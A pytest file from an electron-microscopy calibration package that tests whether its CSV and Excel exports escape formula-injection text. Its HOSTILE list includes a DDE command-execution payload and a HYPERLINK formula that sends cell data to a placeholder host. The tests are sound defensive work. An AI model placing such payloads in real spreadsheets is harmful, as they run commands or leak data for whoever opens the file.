"""No CSV or workbook the project writes holds a formula from text it was given (issue 38
item 2, OWASP's guidance on CSV injection); numbers stay numbers."""

import csv
import shutil

import openpyxl
import pytest

from napari_emcal._files import spreadsheet_text, unescape_spreadsheet_text
from napari_emcal.cli import main
from napari_emcal.dose import CurrentCalibration
from napari_emcal.highdefocus import HighDefocusTable
from tests.conftest import real_file

HOSTILE = (
    "=1+2.mdoc",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1)",
    "+1+2",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
)


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def _assert_no_formula_cells(cells):
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), repr(cell)
            if cell.startswith("-"):
                float(cell)  # only a negative number may start with '-'


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_and_round_trip(text):
    escaped = spreadsheet_text(text)
    assert escaped == "'" + text and unescape_spreadsheet_text(escaped) == text
    for number in ("-1.5", "+2", "1e-3", 3.0, -4):
        assert spreadsheet_text(number) == number


def test_calibration_table_csv_and_workbook(tmp_path, capsys):
    calibration = CurrentCalibration()
    for spot, note in enumerate(HOSTILE[1:4], start=1):
        calibration.add(200.0, spot, 10.0 * spot, note=note, method="=1+1", probe="@micro")
    calibration.to_csv(tmp_path / "cal.csv")
    cells = _csv_cells(tmp_path / "cal.csv")
    _assert_no_formula_cells(cells)
    back = CurrentCalibration.from_csv(tmp_path / "cal.csv")
    assert back.frame["note"].tolist() == list(HOSTILE[1:4])  # the text is kept
    assert back.frame["current_pa"].tolist() == [10.0, 20.0, 30.0]
    # through emcal dose: an .mdoc named =1+2.mdoc, that calibration, a workbook
    mdoc = tmp_path / "=1+2.mdoc"
    shutil.copy(real_file("images/serialem_mdoc/tilt_series.mdoc"), mdoc)
    book = tmp_path / "dose.xlsx"
    assert main(["dose", str(mdoc), "--calibration", str(tmp_path / "cal.csv"),
          "--current-pa", "50", "--beam-diameter-um", "2", "--excel", str(book),
          "--csv", str(tmp_path / "dose.csv")]) == 0  # fmt: skip
    capsys.readouterr()
    assert book.exists()
    workbook = openpyxl.load_workbook(book)
    texts, numbers = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers += 1
    assert any(t.startswith("=1+2") for t in texts)  # the name is there, as text
    assert "=cmd|' /C calc'!A0" in texts and "@SUM(1)" in texts
    assert numbers > 40  # numbers stay numbers
    _assert_no_formula_cells(_csv_cells(tmp_path / "dose.csv"))


def test_high_defocus_table_with_a_typed_probe(tmp_path):
    table = HighDefocusTable()
    table.add(-100.0, 1.04, 2.3, probe='=HYPERLINK("x","y")', near_image="@SUM(1)")
    table.to_csv(tmp_path / "hd.csv")
    _assert_no_formula_cells(_csv_cells(tmp_path / "hd.csv"))
    back = HighDefocusTable.from_csv(tmp_path / "hd.csv")
    assert back.frame["probe"].iloc[0] == '=HYPERLINK("x","y")'
    assert back.frame["defocus_um"].iloc[0] == -100.0
